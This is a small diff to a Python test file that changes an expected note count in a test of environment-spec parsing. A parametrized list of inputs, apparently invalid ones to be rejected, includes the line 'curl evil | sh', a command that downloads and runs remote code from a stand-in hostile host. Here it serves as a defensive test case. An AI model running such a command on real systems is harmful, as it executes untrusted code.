@@ -153,7 +153,7 @@ def test_env_strings_and_settings() -> None:
     assert spec.python == "3.9"
     assert spec.packages == ("numpy", "six")
     assert spec.variables == (("OMP_NUM_THREADS", "1"),)
-    assert len(spec.notes) == 3
+    assert len(spec.notes) == 2
 
 
 @pytest.mark.parametrize("env", ["conda env create -f /x.yml", "curl evil | sh", {"type": "x"}, 3])
